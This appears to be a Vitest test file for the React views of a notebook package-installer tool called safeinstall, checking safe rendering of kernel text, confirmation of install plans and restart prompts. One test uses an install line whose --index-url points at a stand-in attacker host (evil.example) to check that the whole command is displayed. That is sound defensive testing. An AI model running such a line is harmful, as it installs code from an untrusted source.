import * as React from 'react';
import { vi } from 'vitest';

import { Attention } from '../src/views/attention';
import { Install } from '../src/views/install';
import { Interpreter } from '../src/views/interpreter';
import { Packages } from '../src/views/packages';
import { lineOf } from '../src/views/parts';
import { Result } from '../src/views/result';
import { facts, job } from './fakes';
import { act, HOSTILE, readySession, stage, trans } from './sessions';

async function view() {
  const { session, connection } = await readySession();
  const model: any = {
    session,
    subject: { notebook: {} },
    setLine: vi.fn(),
    confirm: vi.fn(),
    line: ''
  };
  model.holds = () => true;
  return { model, session, connection, trans };
}

function rendered(element: JSX.Element): HTMLElement {
  const { host, render } = stage();
  act(() => render(element));
  return host;
}

describe('the views', () => {
  it('show what the kernel says as text, never as markup', async () => {
    const props = await view();
    const verdict = {
      ...facts().verdict,
      state: 'no' as const,
      sentence: HOSTILE,
      reason: HOSTILE
    };
    const item = {
      cell: 'a',
      line: 1,
      outcome: 'x',
      message: HOSTILE,
      actions: [],
      rewritable: true,
      instead: HOSTILE
    };
    const actions = [
      { label: HOSTILE, method: 'repair', params: {}, title: HOSTILE, line: HOSTILE }
    ];
    const finding = {
      code: HOSTILE,
      severity: 'warning' as const,
      message: HOSTILE,
      context: HOSTILE,
      suggestions: [{ command: HOSTILE, note: HOSTILE }],
      actions
    };
    const hostile = facts({ verdict, name: HOSTILE, wrong: [item], findings: [finding] });
    const host = rendered(
      <>
        <Interpreter {...props} facts={hostile} />
        <Attention {...props} facts={hostile} />
      </>
    );
    expect(host.querySelector('img')).toBeNull();
    expect(host.textContent).toContain(HOSTILE);
  });

  it('give a finding the buttons the kernel has chosen, and nothing else', async () => {
    const props = await view();
    props.model.act = vi.fn();
    const repair = {
      label: 'Repair',
      method: 'repair',
      params: { ids: ['a'] },
      title: 'Repair: x',
      line: ''
    };
    const finding = { severity: 'warning' as const, context: '', suggestions: [] };
    const findings = [
      { ...finding, code: 'leftover', message: 'one', actions: [repair] },
      { ...finding, code: 'low-space', message: 'two', actions: [] }
    ];
    props.session.findings = findings;
    props.model.subject = null; // a console: no cells, and findings all the same
    const host = rendered(<Attention {...props} facts={facts()} />);
    const buttons = [...host.querySelectorAll('button')];
    expect(buttons.map(button => button.textContent)).toEqual(['Repair']);
    expect(buttons[0].getAttribute('aria-label')).toBe('Repair: x');
    act(() => buttons[0].click());
    expect(props.model.act).toHaveBeenCalledWith(repair);
  });

  it('show all of a line above the button that carries it out or writes it', async () => {
    const props = await view();
    const line = `%safeinstall pandas ${'x'.repeat(400)} --index-url https://evil.example/simple`;
    const action = { label: 'Install here', method: 'install', params: {}, title: '', line };
    const item = { cell: 'a', line: 1, outcome: 'x', message: 'm', rewritable: true };
    const wrong = [
      { ...item, actions: [action], instead: line },
      { ...item, actions: [], instead: 'another line' }
    ];
    const host = rendered(<Attention {...props} facts={facts({ wrong })} />);
    const shown = [...host.querySelectorAll('[data-safeinstall=line] code')];
    expect(shown.map(each => each.textContent)).toEqual([line, 'another line']);
    const [first] = host.querySelectorAll('.si-Finding');
    const order = [...first.querySelectorAll('code, .si-Button')].map(each => each.tagName);
    expect(order[0]).toBe('CODE');
  });

  it('say the verdict in words beside the sign', async () => {
    const props = await view();
    const host = rendered(<Interpreter {...props} facts={facts()} />);
    const verdict = host.querySelector('[data-safeinstall=verdict]');
    expect(verdict?.textContent).toBe('Installs go here');
    expect(verdict?.querySelector('[aria-hidden=true]')).not.toBeNull();
  });

  it('show a plan as old and new, and do it only when confirmed', async () => {
    const props = await view();
    const changes = [
      { name: 'numpy', before: '1.26.4', after: '2.0', requested: false },
      { name: 'pandas', before: null, after: '2.3', requested: true }
    ];
    const outcome: any = { status: 'planned', plan: { changes }, findings: [], restart: 'none' };
    const message = {
      mark: '·',
      headline: 'Would change',
      lines: [],
      suggestions: [],
      details: ''
    };
    const ended = job({ state: 'ended', result: { outcome, message } });
    const theirs = rendered(<Result {...props} job={ended} />); // asked for from another page
    expect(theirs.querySelector('[data-safeinstall=confirm]')).toBeNull();
    void props.session.start('install', { line: 'pandas' });
    await props.connection.last.answer(ended);
    const host = rendered(<Result {...props} job={ended} />);
    const rows = [...host.querySelectorAll('tbody tr')].map(row => row.textContent);
    expect(rows).toEqual(['numpy1.26.42.0', 'pandas–2.3']);
    expect(host.querySelector('[data-safeinstall=restart]')).toBeNull();
    act(() => (host.querySelector('[data-safeinstall=confirm]') as HTMLElement).click());
    expect(props.model.confirm).toHaveBeenCalledOnce();
  });

  it('say in words, not as a code, that a question went unanswered', async () => {
    const props = await view();
    props.session.error = 'timeout';
    const host = rendered(<Install {...props} facts={facts()} />);
    expect(host.querySelector('.si-Trouble')?.textContent).toContain('did not answer in time');
  });

  it('offer a restart only when it is true', async () => {
    const props = await view();
    const message = { mark: '✓', headline: 'done', lines: [], suggestions: [], details: '' };
    for (const [restart, count] of [
      ['none', 0],
      ['refreshed', 0],
      ['needed', 1]
    ] as const) {
      const outcome: any = { status: 'done', plan: { changes: [] }, findings: [], restart };
      const host = rendered(
        <Result {...props} job={job({ state: 'ended', result: { outcome, message } })} />
      );
      expect(host.querySelectorAll('[data-safeinstall=restart]')).toHaveLength(count);
    }
  });

  it('list a thousand packages', async () => {
    const props = await view();
    props.session.packages = Array.from({ length: 1000 }, (_, index) => ({
      name: `package-${index}`,
      version: '1.0',
      needed_by: [],
      requested: false,
      broken: ''
    }));
    const host = rendered(<Packages {...props} />);
    const section = host.querySelector('details') as HTMLDetailsElement;
    await act(async () => {
      section.open = true;
      section.dispatchEvent(new Event('toggle'));
    });
    expect(host.querySelectorAll('li')).toHaveLength(1000);
    expect(host.textContent).toContain('Packages (1000)');
  });
});

describe('a line to type', () => {
  it.each([
    ['%safeinstall "numpy>=2"', '"numpy>=2"'],
    ['%safeinstall --allow-conflicts numpy==1.26.4', '--allow-conflicts numpy==1.26.4'],
    ['%safeinstall --new-env .venv pandas', null],
    ['sudo apt install python3-pandas', null]
  ])('%s', (command, line) => expect(lineOf(command)).toBe(line));
});
